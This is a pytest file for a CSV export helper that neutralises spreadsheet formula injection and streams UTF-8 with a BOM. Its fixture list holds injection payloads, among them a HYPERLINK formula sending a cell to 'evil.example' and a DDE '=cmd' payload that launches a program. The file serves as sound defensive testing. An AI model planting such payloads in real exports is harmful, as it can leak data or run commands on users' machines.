import codecs
import csv
import io
from datetime import UTC, datetime

import pytest

from madoguchi.core import csvsafe

FORMULAS = [
    "=1+1",
    "+SUM(A1)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "\uff1d1+1",
    "\uff0bSUM(A1)",
    "\uff0d2+3",
    "\uff20SUM(A1)",
    "\0=1",
]


def read_back(text: str) -> list[list[str]]:
    assert text.startswith(codecs.BOM_UTF8.decode())
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def test_formula_cells_are_neutralised_and_keep_their_text() -> None:
    text = "".join(csvsafe.csv_lines(["name"], [[formula] for formula in FORMULAS]))

    header, *rows = read_back(text)

    assert header == ["name"]
    for formula, [cell] in zip(FORMULAS, rows, strict=True):
        assert not cell.startswith(csvsafe.FORMULA_TRIGGERS)
        assert cell == f"'{formula}"


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("山田 太郎", "山田 太郎"),
        ('a,b "quoted"', 'a,b "quoted"'),
        ("multi\nline", "multi\nline"),
        (None, ""),
        (True, "TRUE"),
        (42, "42"),
        (datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC), "2026-01-02T03:04:05+00:00"),
    ],
)
def test_plain_values_round_trip(value: csvsafe.Cell, text: str) -> None:
    [_, [cell]] = read_back("".join(csvsafe.csv_lines(["x"], [[value]])))

    assert cell == text


def test_response_streams_utf8_with_a_bom_for_excel() -> None:
    response = csvsafe.csv_response("people.csv", ["名前"], [["山田"]])

    body = b"".join(response.streaming_content)

    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="people.csv"'
    assert body == codecs.BOM_UTF8 + "名前\r\n山田\r\n".encode()
